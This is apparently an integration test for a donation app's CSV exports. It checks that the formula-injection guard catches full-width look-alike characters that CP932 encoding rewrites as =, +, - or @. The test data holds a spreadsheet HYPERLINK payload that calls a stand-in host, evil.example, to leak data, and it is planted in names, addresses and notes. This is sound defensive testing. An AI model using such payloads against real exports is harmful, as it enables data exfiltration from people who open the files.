import { eq } from 'drizzle-orm';
import iconv from 'iconv-lite';
import { donations, supporters } from '../../src/db/schema';
import { ExportEncoder, encodings, type Encoding } from '../../src/features/exports/encoding';
import { formats } from '../../src/features/exports/exports.schemas';
import { todayInTokyo } from '../../src/features/giving/gift-values';
import { now } from '../../src/lib/clock';
import { eventually, startTestApp, type TestApp } from '../helpers/app';
import { decodeExport, parseCsv } from '../helpers/csv';
import { CARD_OK } from '../helpers/giving';
import { Visitor } from '../helpers/http';
import { signInSupporter } from '../helpers/me';
import { signInAs } from '../helpers/staff';

// The formula guard must judge a cell by the characters the file finally holds: CP932 writes ﹦ as =.

const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];
const STRUCTURE = [',', '"', '\n', '\r'];

/** What the bytes an export encoding writes for `text` read back as (iconv-lite), and what iconv-lite alone makes of it. */
function writtenAs(encoder: ExportEncoder, text: string): string[] {
  const enc = encoder.encoding === 'utf8' ? 'utf8' : 'cp932';
  return [iconv.decode(encoder.encode(encoder.fit(text, () => 'probe')), enc), iconv.decode(iconv.encode(text, enc), enc)];
}

/** Every BMP character that an export encoding writes as something starting with one of `starts` (or holding one of `inside`). */
function charactersWrittenAs(starts: string[], inside: string[] = []): Map<string, Set<Encoding>> {
  const found = new Map<string, Set<Encoding>>();
  for (const encoding of encodings) {
    const encoder = new ExportEncoder(encoding);
    for (let cp = 0; cp <= 0xffff; cp++) {
      if (cp >= 0xd800 && cp <= 0xdfff) continue;
      const char = String.fromCharCode(cp);
      const hit = writtenAs(encoder, char).some((out) => starts.includes(out[0]!) || [...out].some((c) => inside.includes(c)));
      if (hit) found.set(char, (found.get(char) ?? new Set()).add(encoding));
    }
  }
  return found;
}

const codePoint = (c: string) => `U+${c.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}`;

describe('the formula guard on the final characters of every exported file', () => {
  let app: TestApp;
  let finance: Visitor;
  const formulaChars = charactersWrittenAs(FORMULA_START);
  const structureChars = charactersWrittenAs([], STRUCTURE);
  const probe = { family: '﹦HYPERLINK("http://evil.example/?leak","pwn")', given: '﹢1', email: `probe-${Date.now()}@example.jp` };
  const today = todayInTokyo();

  beforeAll(async () => {
    app = await startTestApp();
    ({ visitor: finance } = await signInAs(app, 'finance'));
    // The probe's own gift, through the public form and a real payment.
    const giver = Visitor.of(app);
    const token = await giver.csrf('/give');
    const { res, location } = await giver.post('/give', {
      _csrf: token,
      amount: '3000',
      email: probe.email,
      family_name: probe.family,
      given_name: probe.given,
      locale: 'ja',
      privacy: 'on',
    });
    expect(res.status).toBe(303);
    const paid = await app.stripe.payCheckoutSession(/\/(cs_[\w]+)/.exec(location!)![1]!, CARD_OK);
    expect(paid.ok).toBe(true);
    const [person] = await app.ctx.db.select().from(supporters).where(eq(supporters.email, probe.email));
    await eventually(async () => (await app.ctx.db.select().from(donations).where(eq(donations.supporterId, person!.id))).length > 0);
    await app.ctx.db.update(supporters).set({ postalMail: true, postalCode: '150-0001', prefecture: '東京都', address: '﹣1-2-3' }).where(eq(supporters.id, person!.id));
    // One supporter per character in every text a file carries: names, kana, address, payer, note.
    let n = 0;
    for (const char of [...formulaChars.keys(), ...structureChars.keys()]) {
      n += 1;
      const [s] = await app.ctx.db
        .insert(supporters)
        .values({
          email: `formula-${n}@example.jp`,
          emailNormalized: `formula-${n}@example.jp`,
          familyName: `${char}HYPERLINK("http://evil.example/?leak","pwn")`,
          givenName: `${char}1`,
          familyNameKana: `${char}ヤマダ`,
          postalMail: true,
          postalCode: '150-0001',
          prefecture: '',
          address: `${char}1-2-3 a${char}b`,
          status: 'one_time',
        })
        .returning({ id: supporters.id });
      await app.ctx.db.insert(donations).values({
        supporterId: s!.id,
        entry: 'gift',
        channel: 'offline',
        method: 'cash',
        frequency: 'one_time',
        amount: 1000,
        receivedAt: now(),
        receivedOn: today,
        receiptNumber: `9999-${String(n).padStart(6, '0')}`,
        payerName: `${char}payer`,
        note: `${char}note a${char}b`,
      });
    }
  }, 120_000);
  afterAll(() => app.stop());

  test('when every BMP character is encoded, then the set of those written as = + - @ tab or CR holds the look-alikes of the finding', () => {
    for (const c of ['﹦', '﹢', '﹣', '﹫', '⁺', '₌', '\uFE6B']) expect([codePoint(c), formulaChars.get(c)?.has('cp932')]).toEqual([codePoint(c), true]);
    for (const c of FORMULA_START) expect(formulaChars.has(c)).toBe(true);
    expect(structureChars.get('﹐')?.has('cp932')).toBe(true);
  });

  /** Every cell that starts like a formula, and every line whose width differs from the header's. */
  function problemsOf(rows: string[][], width: number): string[] {
    const problems: string[] = [];
    rows.forEach((row, i) => {
      if (row.length !== width) problems.push(`line ${i + 1} has ${row.length} cells`);
      for (const cell of row) if (FORMULA_START.includes(cell[0] ?? '')) problems.push(`line ${i + 1}: ${JSON.stringify(cell.slice(0, 40))}`);
    });
    return problems;
  }

  async function download(path: string): Promise<Buffer> {
    const res = await fetch(`${app.url}${path}`, { headers: { cookie: finance.cookieHeader('/admin') } });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  }

  const files: [string, Encoding, number][] = [];
  for (const encoding of encodings) {
    for (const format of formats)
      files.push([
        `/admin/exports/donations.csv?from=${todayInTokyo()}&to=${todayInTokyo()}&format=${format}&encoding=${encoding}`,
        encoding,
        { standard: 21, freee: 21, moneyforward: 27, yayoi: 25 }[format],
      ]);
    files.push([`/admin/exports/summary.csv?year=${todayInTokyo().slice(0, 4)}&encoding=${encoding}`, encoding, 8]);
    files.push([`/admin/exports/labels.csv?encoding=${encoding}`, encoding, 4]);
  }

  test.each(files)('when finance download %s, then no cell of the %s file starts with = + - @ tab or CR and every line keeps its cells', async (path, encoding, width) => {
    const rows = parseCsv(decodeExport(await download(path), encoding));
    expect(problemsOf(rows, width)).toEqual([]);
    // The summary carries no supporter text; the accounting formats put names inside their memos.
    if (!path.includes('format=standard') && !path.includes('labels')) return;
    // The look-alikes are there, guarded: as themselves in UTF-8, as ' and their CP932 form in CP932.
    const cells = rows.flat();
    for (const [char, where] of formulaChars) {
      if (!where.has(encoding) || char === '\t' || char === '\r') continue;
      const written = writtenAs(new ExportEncoder(encoding), char)[0]!;
      expect([codePoint(char), cells.some((c) => c.startsWith(`'${written}`))]).toEqual([codePoint(char), true]);
    }
    if (encoding === 'cp932') expect(cells.some((c) => c.startsWith(`'=HYPERLINK("http://evil.example/?leak","pwn")`))).toBe(true);
  });

  test('when the probe downloads their personal data from My page, then no cell of the CSV starts with = + - @ tab or CR', async () => {
    const me = await signInSupporter(app, probe.email);
    const { res, html } = await me.get('/me/data.csv');
    expect(res.status).toBe(200);
    const rows = parseCsv(html.replace(/^\uFEFF/, ''));
    expect(problemsOf(rows, 4)).toEqual([]);
    expect(rows.some((r) => r[3] === probe.family)).toBe(true);
  });
});
